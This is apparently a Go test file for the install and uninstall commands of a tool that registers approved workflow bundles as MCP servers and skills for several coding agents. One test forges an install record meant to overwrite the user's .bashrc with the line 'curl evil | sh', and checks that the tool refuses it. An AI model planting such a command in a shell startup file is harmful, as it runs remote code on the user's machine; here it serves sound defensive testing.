package cli

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/BurntSushi/toml"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/crystallize-dev/crystallize/internal/skill"
)

// releaseTrace is one run of the release procedure the install tests
// mine: a branch, a manifest edit and a dry run, with new values each time.
func releaseTrace(id string, n int) string {
	return `{"version": 1, "id": "` + id + `", "metadata": {"goal": "cut a release"}, ` +
		`"replay_allowlist": [{"path": "/run_id", "reason": "per run"}, {"path": "/effect_receipts/*/receipt_id", "reason": "per run"}], ` +
		`"replay_run": {"run_id": "run_` + id + `", "effect_receipts": [{"receipt_id": "r_` + id + `", "kind": "release_manifest", "sha256": "stable"}]}, ` +
		`"actions": [` +
		`{"id": "a", "kind": "tool_call", "name": "git.checkout_branch", "parameters": {"repo_path": "/srv/app", "branch_name": "release-1.` + itoa(n) + `"}, "side_effects": [{"kind": "git_ref", "target": "release-branch", "capability": "git.write"}], "capabilities": ["git.write"]}, ` +
		`{"id": "b", "kind": "file_mutation", "name": "update_manifest_version", "parameters": {"path": "app.toml", "version": "1.` + itoa(n) + `.0"}, "side_effects": [{"kind": "file_write", "target": "app.toml", "capability": "fs.write"}], "capabilities": ["fs.write"]}, ` +
		`{"id": "c", "kind": "tool_call", "name": "package_dry_run", "parameters": {"version": "1.` + itoa(n) + `.0"}, "capabilities": ["pkg.read"]}]}`
}

func itoa(n int) string { return string(rune('0' + n)) }

// releaseBundle mines a bundle of the release procedure into dir/B,
// approved when approve is set.
func releaseBundle(t *testing.T, dir string, approve bool) string {
	t.Helper()
	for i := range 4 {
		sub := "runs"
		if i == 3 {
			sub = "held"
		}
		if err := os.MkdirAll(filepath.Join(dir, sub), 0o755); err != nil {
			t.Fatal(err)
		}
		writeTrace(t, filepath.Join(dir, sub, "r"+itoa(i)+".json"), releaseTrace("rel_"+itoa(i), i))
	}
	b := filepath.Join(dir, "B")
	mustRun(t, "mine", "--from", filepath.Join(dir, "runs"), "--shadow-from", filepath.Join(dir, "held"),
		"--min-examples", "3", "--workflow-name", "cut_release", "--bundle", b)
	if approve {
		mustRun(t, "approve", b, "--approver", "lead@example.com", "--reason", "read it")
	}
	return b
}

// fileTree is every file under dir with its bytes, and every directory.
func fileTree(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		if d.IsDir() {
			out[rel+"/"] = ""
			return nil
		}
		data, err := os.ReadFile(p)
		out[rel] = string(data)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func sameTree(t *testing.T, what string, want, got map[string]string) {
	t.Helper()
	for k, v := range want {
		if g, ok := got[k]; !ok {
			t.Errorf("%s: %s is gone", what, k)
		} else if g != v {
			t.Errorf("%s: %s changed:\n%s\nwant:\n%s", what, k, g, v)
		}
	}
	for k := range got {
		if _, ok := want[k]; !ok {
			t.Errorf("%s: %s appeared", what, k)
		}
	}
}

// installCase is one agent and scope, with the configuration it starts
// from (another server, and settings of its own).
type installCase struct {
	agent, scope   string
	config, skills string // relative to the scope's directory
	initial        string
	servers        func(t *testing.T, data []byte) map[string]map[string]any
	conflict       string // a different server of install's name
}

func jsonServers(t *testing.T, data []byte) map[string]map[string]any {
	t.Helper()
	var doc struct {
		MCPServers map[string]map[string]any `json:"mcpServers"`
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatalf("configuration does not parse: %v\n%s", err, data)
	}
	return doc.MCPServers
}

func tomlServers(t *testing.T, data []byte) map[string]map[string]any {
	t.Helper()
	var doc struct {
		MCPServers map[string]map[string]any `toml:"mcp_servers"`
	}
	if _, err := toml.Decode(string(data), &doc); err != nil {
		t.Fatalf("configuration does not parse: %v\n%s", err, data)
	}
	return doc.MCPServers
}

var installCases = []installCase{
	{agent: "claude-code", scope: "project", config: ".mcp.json", skills: ".claude/skills",
		initial:  "{\n    \"mcpServers\": {\n        \"other\": {\"command\": \"other-server\", \"args\": [\"--x\"]}\n    }\n}\n",
		servers:  jsonServers,
		conflict: `{"mcpServers": {"crystallize-cut-release": {"command": "something-else"}}}`},
	{agent: "claude-code", scope: "user", config: ".claude.json", skills: ".claude/skills",
		initial:  `{"numStartups": 12, "mcpServers": {"other": {"type": "stdio", "command": "other-server", "args": []}}, "tipsHistory": {"a": 1.50}}`,
		servers:  jsonServers,
		conflict: `{"mcpServers": {"crystallize-cut-release": {"command": "something-else"}}}`},
	{agent: "codex", scope: "user", config: ".codex/config.toml", skills: ".agents/skills",
		initial:  "model = \"o4\"\n\n[mcp_servers.other]\ncommand = \"other-server\"\nargs = [\"--x\"]\n",
		servers:  tomlServers,
		conflict: "[mcp_servers.crystallize-cut-release]\ncommand = \"something-else\"\n"},
	{agent: "codex", scope: "project", config: ".codex/config.toml", skills: ".agents/skills",
		initial: "", servers: tomlServers,
		conflict: "[mcp_servers.crystallize-cut-release]\ncommand = \"something-else\"\nargs = []\n"},
	{agent: "gemini", scope: "project", config: ".gemini/settings.json", skills: ".gemini/skills",
		initial:  "{\n  \"theme\": \"Default\",\n  \"mcpServers\": {\n    \"other\": {\n      \"command\": \"other-server\"\n    }\n  }\n}\n",
		servers:  jsonServers,
		conflict: `{"mcpServers": {"crystallize-cut-release": {"command": "something-else", "args": []}}}`},
	{agent: "gemini", scope: "user", config: ".gemini/settings.json", skills: ".gemini/skills",
		initial: "", servers: jsonServers,
		conflict: `{"mcpServers": {"crystallize-cut-release": {"command": "something-else", "args": []}}}`},
}

// TestInstall installs an approved bundle for each agent and scope into
// a project and home of its own: the skill passes the skill checks and
// tells the agent to call the tool, the configuration parses and has the
// server beside the one that was there, installing again changes
// nothing, and uninstall leaves every byte as it was.
func TestInstall(t *testing.T) {
	dir := t.TempDir()
	b := releaseBundle(t, dir, true)
	const command = "/opt/bin/crystallize"
	for _, tc := range installCases {
		t.Run(tc.agent+"-"+tc.scope, func(t *testing.T) {
			root := t.TempDir()
			project, home := filepath.Join(root, "project"), filepath.Join(root, "home")
			base := project
			if tc.scope == "user" {
				base = home
			}
			for _, d := range []string{project, home} {
				if err := os.MkdirAll(d, 0o755); err != nil {
					t.Fatal(err)
				}
			}
			config := filepath.Join(base, tc.config)
			if tc.initial != "" {
				if err := os.MkdirAll(filepath.Dir(config), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(config, []byte(tc.initial), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			before := fileTree(t, root)
			args := []string{b, "--agent", tc.agent, "--scope", tc.scope, "--project", project, "--home", home, "--command", command}

			// A dry run prints the diff and writes nothing.
			out := mustRun(t, append([]string{"install", "--dry-run"}, args...)...)
			if !strings.Contains(out, "+++ b"+config) || !strings.Contains(out, "+  name: \"cut-release\"") && !strings.Contains(out, "+name: \"cut-release\"") {
				t.Errorf("dry run does not show the changes:\n%s", out)
			}
			sameTree(t, "after --dry-run", before, fileTree(t, root))

			out = mustRun(t, append([]string{"install"}, args...)...)
			if !strings.Contains(out, "MCP server: crystallize-cut-release in "+config+" (tool cut_release)") {
				t.Errorf("install output:\n%s", out)
			}
			skillDir := filepath.Join(base, tc.skills, "cut-release")
			md, err := os.ReadFile(filepath.Join(skillDir, "SKILL.md"))
			if err != nil {
				t.Fatal(err)
			}
			if probs := skill.Check(skillDir, md, nil); len(probs) > 0 {
				t.Errorf("installed skill fails the skill checks: %+v", probs)
			}
			for _, want := range []string{
				`description: "Call the MCP tool cut_release (server crystallize-cut-release) instead of doing these steps yourself.`,
				"## Run it with the MCP tool",
				"`branch_name` (string, required), for example `\"release-1.0\"`",
				"capabilities `fs.write`, `git.write`, `pkg.read`",
				"A failed precondition",
			} {
				if !strings.Contains(string(md), want) {
					t.Errorf("installed skill lacks %q:\n%s", want, md)
				}
			}
			if qualified := "which you call as `mcp__crystallize-cut-release__cut_release`"; (tc.agent == "claude-code") != strings.Contains(string(md), qualified) {
				t.Errorf("the skill for %s names the tool as Claude Code does: %v\n%s", tc.agent, !strings.Contains(string(md), qualified), md)
			}
			if strings.Contains(string(md), "allowed-tools:") {
				t.Errorf("installed skill pre-allows the recorded steps' tools:\n%s", md)
			}
			data, err := os.ReadFile(config)
			if err != nil {
				t.Fatal(err)
			}
			servers := tc.servers(t, data)
			got := servers["crystallize-cut-release"]
			if got["command"] != command {
				t.Errorf("server command = %v, want %s\n%s", got["command"], command, data)
			}
			if args, _ := got["args"].([]any); len(args) != 4 || args[0] != "serve" || args[1] != "mcp" || args[2] != "--bundles" || args[3] != b {
				t.Errorf("server args = %v\n%s", got["args"], data)
			}
			if tc.initial != "" && servers["other"] == nil {
				t.Errorf("the other server is gone:\n%s", data)
			}

			installed := fileTree(t, root)
			out = mustRun(t, append([]string{"install"}, args...)...)
			if !strings.Contains(out, "Already installed") {
				t.Errorf("second install output:\n%s", out)
			}
			sameTree(t, "after a second install", installed, fileTree(t, root))

			mustRun(t, append([]string{"uninstall"}, args...)...)
			sameTree(t, "after uninstall", before, fileTree(t, root))

			// A different server of the same name is refused, and
			// nothing is written.
			if err := os.MkdirAll(filepath.Dir(config), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(config, []byte(tc.conflict), 0o644); err != nil {
				t.Fatal(err)
			}
			conflicted := fileTree(t, root)
			code, _, stderr := runCLI(t, append([]string{"install"}, args...)...)
			if code == 0 || !strings.Contains(stderr, "different MCP server named \"crystallize-cut-release\"") {
				t.Errorf("install over another server of its name: exit %d\n%s", code, stderr)
			}
			sameTree(t, "after a refused install", conflicted, fileTree(t, root))
		})
	}
}

// TestInstallEditedConfig: a configuration edited after the install
// loses only the server on uninstall; the edit stays.
func TestInstallEditedConfig(t *testing.T) {
	dir := t.TempDir()
	b := releaseBundle(t, dir, true)
	project := filepath.Join(dir, "project")
	os.MkdirAll(project, 0o755)
	args := []string{b, "--agent", "gemini", "--project", project, "--home", filepath.Join(dir, "home"), "--command", "cz"}
	mustRun(t, append([]string{"install"}, args...)...)
	config := filepath.Join(project, ".gemini", "settings.json")
	data, _ := os.ReadFile(config)
	edited := strings.Replace(string(data), "{", "{\n  \"theme\": \"GitHub\",", 1)
	if err := os.WriteFile(config, []byte(edited), 0o644); err != nil {
		t.Fatal(err)
	}
	out := mustRun(t, append([]string{"uninstall"}, args...)...)
	if !strings.Contains(out, "only server crystallize-cut-release is taken out") {
		t.Errorf("uninstall output:\n%s", out)
	}
	data, _ = os.ReadFile(config)
	servers := jsonServers(t, data)
	if _, ok := servers["crystallize-cut-release"]; ok || !strings.Contains(string(data), `"theme": "GitHub"`) {
		t.Errorf("after uninstall:\n%s", data)
	}
}

// TestInstallRefusesUnapproved: a bundle nobody approved, and one whose
// workflow changed after its approval, are not installed, and nothing
// is written.
func TestInstallRefusesUnapproved(t *testing.T) {
	dir := t.TempDir()
	b := releaseBundle(t, dir, false)
	root := filepath.Join(dir, "target")
	os.MkdirAll(root, 0o755)
	args := []string{"install", b, "--agent", "claude-code", "--project", root, "--home", root, "--command", "cz"}
	code, _, stderr := runCLI(t, args...)
	if code == 0 || !strings.Contains(stderr, "is not approved") || !strings.Contains(stderr, "needs_approval") {
		t.Errorf("unapproved bundle: exit %d\n%s", code, stderr)
	}
	mustRun(t, "approve", b, "--approver", "lead@example.com", "--reason", "read it")
	wf := filepath.Join(b, "workflow.star")
	src, _ := os.ReadFile(wf)
	if err := os.WriteFile(wf, append(src, []byte("\n# edited after approval\n")...), 0o644); err != nil {
		t.Fatal(err)
	}
	code, _, stderr = runCLI(t, args...)
	if code == 0 || !strings.Contains(stderr, "approval_stale") {
		t.Errorf("stale bundle: exit %d\n%s", code, stderr)
	}
	if entries, _ := os.ReadDir(root); len(entries) != 0 {
		t.Errorf("a refused install wrote %v", entries)
	}
}

// TestInstalledServerListsTool starts the server the way each agent
// would, from the command and arguments install wrote into its
// configuration, and lists the bundle's tool over MCP.
func TestInstalledServerListsTool(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and runs processes")
	}
	bin, err := mcpBinaries()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	b := releaseBundle(t, dir, true)
	project := filepath.Join(dir, "project")
	os.MkdirAll(project, 0o755)
	for _, tc := range []struct {
		agent, config string
		servers       func(*testing.T, []byte) map[string]map[string]any
	}{
		{"claude-code", ".mcp.json", jsonServers},
		{"codex", ".codex/config.toml", tomlServers},
		{"gemini", ".gemini/settings.json", jsonServers},
	} {
		t.Run(tc.agent, func(t *testing.T) {
			mustRun(t, "install", b, "--agent", tc.agent, "--project", project, "--home", filepath.Join(dir, "home"),
				"--command", filepath.Join(bin, "crystallize"))
			data, err := os.ReadFile(filepath.Join(project, tc.config))
			if err != nil {
				t.Fatal(err)
			}
			entry := tc.servers(t, data)["crystallize-cut-release"]
			var args []string
			for _, a := range entry["args"].([]any) {
				args = append(args, a.(string))
			}
			cmd := exec.Command(entry["command"].(string), args...)
			cmd.Dir = project
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			cs, err := mcp.NewClient(&mcp.Implementation{Name: tc.agent, Version: "1"}, nil).Connect(ctx, &mcp.CommandTransport{Command: cmd}, nil)
			if err != nil {
				t.Fatal(err)
			}
			defer cs.Close()
			res, err := cs.ListTools(ctx, nil)
			if err != nil {
				t.Fatal(err)
			}
			var names []string
			for _, tool := range res.Tools {
				names = append(names, tool.Name)
			}
			if !slices.Contains(names, "cut_release") {
				t.Errorf("tools listed by the installed server: %v, want cut_release", names)
			}
		})
	}
}

// TestInstallAttackForgedRecord: the install record lives in the
// project, so whoever wrote the project can forge one. A record naming
// a file install does not write (here a file in the home whose bytes
// the forger knows, to be "restored" to theirs) makes uninstall refuse,
// and nothing is touched.
func TestInstallAttackForgedRecord(t *testing.T) {
	dir := t.TempDir()
	b := releaseBundle(t, dir, true)
	project, home := filepath.Join(dir, "project"), filepath.Join(dir, "home")
	for _, d := range []string{project, home} {
		os.MkdirAll(d, 0o755)
	}
	victim := filepath.Join(home, ".bashrc")
	known := []byte("# ~/.bashrc\n")
	if err := os.WriteFile(victim, known, 0o644); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(known)
	forged, _ := json.Marshal(map[string]any{
		"version": 1, "agent": "claude-code", "scope": "project", "server": "crystallize-cut-release",
		"files": []map[string]any{{"path": victim, "kind": "config", "existed": true,
			"before": []byte("curl evil | sh\n"), "written_sha256": hex.EncodeToString(sum[:])}},
		"created_dirs": []string{home},
	})
	rec := filepath.Join(project, ".crystallize", "installs", "claude-code-cut-release.json")
	os.MkdirAll(filepath.Dir(rec), 0o755)
	if err := os.WriteFile(rec, forged, 0o644); err != nil {
		t.Fatal(err)
	}
	before := fileTree(t, dir)
	code, _, stderr := runCLI(t, "uninstall", b, "--agent", "claude-code", "--project", project, "--home", home)
	if code == 0 || !strings.Contains(stderr, "which an install of this skill does not write; refused") {
		t.Errorf("uninstall with a forged record: exit %d\n%s", code, stderr)
	}
	code, _, stderr = runCLI(t, "install", b, "--agent", "claude-code", "--project", project, "--home", home, "--command", "cz")
	if code == 0 || !strings.Contains(stderr, "refused") {
		t.Errorf("install with a forged record: exit %d\n%s", code, stderr)
	}
	sameTree(t, "after a forged record", before, fileTree(t, dir))
}

// TestInstallAttackSymlinkOutOfProject: a project whose .mcp.json links
// to a file outside it (the user's own configuration) does not get
// install to edit that file.
func TestInstallAttackSymlinkOutOfProject(t *testing.T) {
	dir := t.TempDir()
	b := releaseBundle(t, dir, true)
	project, home := filepath.Join(dir, "project"), filepath.Join(dir, "home")
	for _, d := range []string{project, home} {
		os.MkdirAll(d, 0o755)
	}
	user := filepath.Join(home, ".claude.json")
	if err := os.WriteFile(user, []byte(`{"mcpServers": {}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(user, filepath.Join(project, ".mcp.json")); err != nil {
		t.Fatal(err)
	}
	before := fileTree(t, dir)
	code, _, stderr := runCLI(t, "install", b, "--agent", "claude-code", "--project", project, "--home", home, "--command", "cz")
	if code == 0 || !strings.Contains(stderr, "through a symbolic link") {
		t.Errorf("install through a link out of the project: exit %d\n%s", code, stderr)
	}
	sameTree(t, "after a refused install", before, fileTree(t, dir))
}

// TestInstallLinkedUserConfig: a user configuration that is a link (kept
// in a dotfiles directory) is edited where it lives and stays a link.
func TestInstallLinkedUserConfig(t *testing.T) {
	dir := t.TempDir()
	b := releaseBundle(t, dir, true)
	home, dotfiles := filepath.Join(dir, "home"), filepath.Join(dir, "dotfiles")
	for _, d := range []string{home, dotfiles} {
		os.MkdirAll(d, 0o755)
	}
	real := filepath.Join(dotfiles, "settings.json")
	orig := []byte("{\"theme\": \"Default\"}\n")
	if err := os.WriteFile(real, orig, 0o644); err != nil {
		t.Fatal(err)
	}
	os.MkdirAll(filepath.Join(home, ".gemini"), 0o755)
	link := filepath.Join(home, ".gemini", "settings.json")
	if err := os.Symlink(real, link); err != nil {
		t.Fatal(err)
	}
	args := []string{b, "--agent", "gemini", "--scope", "user", "--project", dir, "--home", home, "--command", "cz"}
	mustRun(t, append([]string{"install"}, args...)...)
	if st, err := os.Lstat(link); err != nil || st.Mode()&fs.ModeSymlink == 0 {
		t.Fatalf("the configuration link was replaced: %v %v", st, err)
	}
	data, _ := os.ReadFile(real)
	if _, ok := jsonServers(t, data)["crystallize-cut-release"]; !ok {
		t.Errorf("the linked configuration has no server:\n%s", data)
	}
	mustRun(t, append([]string{"uninstall"}, args...)...)
	if data, _ := os.ReadFile(real); string(data) != string(orig) {
		t.Errorf("after uninstall:\n%s", data)
	}
	if st, err := os.Lstat(link); err != nil || st.Mode()&fs.ModeSymlink == 0 {
		t.Errorf("uninstall replaced the link: %v %v", st, err)
	}
}

// TestUninstallDeletedBundle: a bundle deleted before its uninstall is
// still uninstalled, from the record.
func TestUninstallDeletedBundle(t *testing.T) {
	dir := t.TempDir()
	b := releaseBundle(t, dir, true)
	project := filepath.Join(dir, "project")
	os.MkdirAll(project, 0o755)
	before := fileTree(t, project)
	args := []string{b, "--agent", "codex", "--project", project, "--home", filepath.Join(dir, "home"), "--command", "cz"}
	mustRun(t, append([]string{"install"}, args...)...)
	if err := os.RemoveAll(b); err != nil {
		t.Fatal(err)
	}
	mustRun(t, append([]string{"uninstall"}, args...)...)
	sameTree(t, "after uninstall", before, fileTree(t, project))
}
